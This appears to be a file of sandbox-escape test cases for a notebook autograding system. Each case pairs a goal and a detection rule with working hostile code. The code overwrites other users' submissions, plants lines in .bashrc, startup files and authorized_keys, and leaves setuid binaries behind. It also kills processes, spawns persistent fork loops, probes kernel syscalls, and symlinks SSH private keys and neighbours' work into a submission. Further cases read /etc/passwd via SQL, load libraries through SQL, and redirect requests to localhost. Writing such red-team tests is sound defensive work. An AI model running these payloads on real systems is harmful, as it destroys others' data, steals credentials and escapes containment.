# id: e50_other_submissions
# category: escape
# goal: overwrite everybody's submissions, results and pages
# detect: course_changed
# place: q1
import glob, os
for top in ("/home", "/work", "/tmp", "/root", "..", "../..", os.path.expanduser("~")):
    for path in glob.glob(f"{top}/**/*.ipynb", recursive=True)[:200] + glob.glob(f"{top}/**/results/**", recursive=True)[:200]:
        try:
            with open(path, "r+") as file:
                file.write("gone")
        except OSError:
            pass

# id: e51_home
# category: escape
# goal: plant files that run later in the grading account: shell, IPython, Jupyter, Python's own start-up
# detect: home_changed or course_changed
# place: q1
import os, site
homes = {os.path.expanduser("~"), "/home/sbxuser", "/root", *(f"/home/{one}" for one in (os.listdir("/home") if os.path.isdir("/home") else ()))}
for home in homes:
    for name in (".bashrc", ".ipython/profile_default/startup/0.py", ".jupyter/jupyter_config.py", ".config/pip/pip.conf", ".local/lib/python3.11/site-packages/usercustomize.py", ".pythonrc", "course/nbgrader_config.py", ".ssh/authorized_keys"):
        try:
            os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
            with open(f"{home}/{name}", "a") as file:
                file.write("\n# pwned\n")
        except OSError:
            pass

# id: e52_write_everywhere
# category: escape
# goal: find every folder that can be written in, and leave a program with the setuid bit there
# detect: left or home_changed or course_changed
# place: q1
import os, shutil
for top in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/var", "/etc", "/home", "/work", "/usr/local", "."):
    for folder, folders, _ in os.walk(top):
        del folders[50:]
        if folder.count("/") > 4:
            del folders[:]
        if os.access(folder, os.W_OK):
            try:
                shutil.copy("/bin/true", f"{folder}/pwned")
                os.chmod(f"{folder}/pwned", 0o6755)
            except OSError:
                pass

# id: e53_signals
# category: escape
# goal: signal everybody: the parent, the group, process 1, all numbers
# detect: autograde_rc != 0 or other is None
# place: q2
import os, signal
def order_total(orders, customer):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (os.getppid(), 0, 1, -1, *range(2, 400)):
        if number != os.getpid():
            for what in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(number, what)
                except OSError:
                    pass
    return 120

# id: e54_survivor
# category: escape
# goal: leave processes behind: a daemon, one that ignores signals, one that is stopped, one that forks for ever
# detect: alive
# place: q1
import os, signal, time
def daemon(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3, 64):
                try:
                    os.close(number)
                except OSError:
                    pass
            work()
        os._exit(0)
def deaf():
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    time.sleep(40)
def runner():
    ends = time.monotonic() + 40
    while time.monotonic() < ends:
        time.sleep(0.05)
        if os.fork():
            os._exit(0)
daemon(lambda: time.sleep(40))
daemon(deaf)
daemon(lambda: os.kill(os.getpid(), signal.SIGSTOP))
daemon(runner)

# id: e55_kernel_surface
# category: escape
# goal: reach dangerous corners of the kernel: namespaces, mounts, bpf, io_uring, keys, perf, userfaultfd, other processes
# detect: 'REACHED' in loot
# place: q1
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
buffer = ctypes.create_string_buffer(256)
if platform.machine() == "x86_64":
    calls = {"unshare(user)": (272, 0x10000000), "unshare(mount)": (272, 0x20000), "setns": (308, 0, 0), "mount": (165, b"none", b"/box", b"tmpfs", 0, None), "umount": (166, b"/proc", 2), "pivot_root": (155, b"/box", b"/box"), "chroot": (161, b"/box"), "bpf": (321, 0, buffer, 64), "io_uring_setup": (425, 4, buffer), "add_key": (248, b"user", b"x", b"y", 1, -2), "keyctl": (250, 0, -3, 1), "request_key": (249, b"user", b"x", None, 0), "perf_event_open": (298, buffer, 0, -1, -1, 0), "userfaultfd": (323, 0x80001), "ptrace": (101, 0, 0, 0, 0), "process_vm_readv": (310, 1, buffer, 1, buffer, 1, 0), "pidfd_open": (434, 1, 0), "pidfd_getfd": (438, 3, 0, 0), "kcmp": (312, 1, 1, 0, 0, 0), "memfd_create": (319, b"x", 0), "shmget": (29, 0, 4096, 0o1666), "msgget": (68, 0, 0o1666), "semget": (64, 0, 1, 0o1666), "mq_open": (240, b"x", 0o102, 0o666, None), "syslog": (103, 3, buffer, 256), "personality": (135, 0x0040000), "open_by_handle_at": (304, -100, buffer, 0), "name_to_handle_at": (303, -100, b"/", buffer, buffer, 0), "sched_setscheduler": (144, 0, 0, buffer), "setpriority": (141, 0, 0, -5), "acct": (163, None), "swapon": (167, b"/box/x", 0), "reboot": (169, 0, 0, 0, 0), "init_module": (175, buffer, 0, b""), "kexec_load": (246, 0, 0, None, 0), "iopl": (172, 3), "modify_ldt": (154, 0, buffer, 16), "fanotify_init": (300, 0, 0), "quotactl": (179, 0, b"/", 0, None), "move_pages": (279, 0, 0, None, None, None, 0), "landlock in reverse": (446, -1, 0), "memfd_secret": (447, 0), "clone3": (435, buffer, 88), "socket(netlink)": (41, 16, 3, 0), "socket(packet)": (41, 17, 3, 0), "socket(alg)": (41, 38, 5, 0), "socket(vsock)": (41, 40, 1, 0), "prlimit of another": (302, 1, 7, None, buffer)}
    for name, (number, *arguments) in calls.items():
        if libc.syscall(number, *arguments) >= 0:
            loot(f"REACHED {name}")

# id: e56_linked_notebook
# category: escape
# goal: hand in a link to the neighbour's notebook instead of one's own
# detect: score > 0
# %% mutate
def mutate_files():
    os.remove(NB)
    os.symlink(f"../../zoe/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", NB)

# id: e57_linked_folder
# category: escape
# goal: hand in a link to the neighbour's folder
# detect: score > 0
# %% mutate
import shutil
def mutate_files():
    shutil.rmtree(SUB)
    os.symlink(f"../zoe/{ASSIGNMENT}", SUB)

# id: e58_linked_secrets
# category: escape
# goal: hand in links to secrets beside the notebook, under names that graders copy or read
# detect: 'CANARY-SSHKEY' in loot or 'CANARY-SSHKEY' in text or any('CANARY-SSHKEY' in autograded(name) for name in ('notes.txt', 'timestamp.txt', 'data/key', 'feedback.html'))
# %% mutate
def mutate_files():
    os.makedirs(SUB + "/data", exist_ok=True)
    for name in ("notes.txt", "timestamp.txt", "data/key", "feedback.html"):
        os.symlink("/home/sbxuser/.ssh/id_rsa", f"{SUB}/{name}")

# id: e59_special_files
# category: escape
# goal: files that hang or harm whoever reads them: a named pipe, a device, a socket, a folder with the notebook's name
# detect: other is None or autograde_rc != 0 or wall > 40
# %% mutate
import socket
def mutate_files():
    os.remove(NB)
    os.mkfifo(NB)
    os.mkfifo(SUB + "/timestamp.txt")
    os.symlink("/dev/zero", SUB + "/other.ipynb")
    os.mkdir(SUB + "/third.ipynb")
    here = os.getcwd()
    os.chdir(SUB)
    socket.socket(socket.AF_UNIX).bind("fourth.ipynb")
    os.chdir(here)

# id: e60_sql_files
# category: escape
# goal: write and read files by SQL alone
# detect: left or home_changed or course_changed or 'CANARY' in text
# place: q1
%%sql totals
attach database '/tmp/pwned.db' as p; create table p.t(x); select readfile('/etc/passwd')

# id: e61_sql_vacuum
# category: escape
# goal: the same by VACUUM INTO, hidden behind a comment
# detect: left or home_changed or course_changed
# place: q1
%%sql totals
/* select */ vacuum main into '/tmp/pwned.db'

# id: e62_sql_extension
# category: escape
# goal: load a library into the process that runs the query, and write its schema
# detect: score > 0 or left
# place: q1
%%sql totals
select load_extension('/usr/lib/x86_64-linux-gnu/libc.so.6') as name, (select 1 from pragma_writable_schema) as total

# id: e63_server_side_requests
# category: escape
# goal: have the check's client fetch from the machine: by redirects, absolute addresses and links
# detect: 'CANARY-HOST-SERVICE' in text or 'CANARY-HOST-SERVICE' in loot
# place: q4
def create_app():
    def app(environ, start_response):
        start_response("302 Found", [("Location", "http://127.0.0.1:18099/"), ("Refresh", "0; url=http://127.0.0.1:18099/"), ("Content-Type", "application/json"), ("Content-Location", "http://127.0.0.1:18099/"), ("Link", "<http://127.0.0.1:18099/>; rel=next")])
        return [b"[]"]
    return app

# id: e64_shared_folder
# category: escape
# goal: lay traps where the checker makes its files: links, pipes and files of every likely name
# detect: score > 0 or home_changed or left
# place: q1
import os, tempfile
for folder in ("/shared", tempfile.gettempdir(), "/tmp"):
    for name in ("database.db", "data.sqlite", "tmp", "db", ".lock", "city.db"):
        try:
            os.symlink("/home/sbxuser/.bashrc", f"{folder}/{name}")
            os.mkfifo(f"{folder}/pipe-{name}")
        except OSError:
            pass
    try:
        os.chmod(folder, 0)
    except OSError:
        pass

# id: e65_undeletable
# category: escape
# goal: leave what can't be cleaned away: deep folders, folders without rights, strange names, many links
# detect: left or home_changed or autograde_rc != 0
# place: q2
import os
def order_total(orders, customer):
    for top in ("/box", "/shared", "/tmp", "."):
        try:
            os.chdir(top)
            for name in ("-rf", "a\nb", "\udcff", "x" * 255, "*", "~"):
                os.mkdir(name)
                os.chmod(name, 0)
            for _ in range(1500):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            pass
    return 120
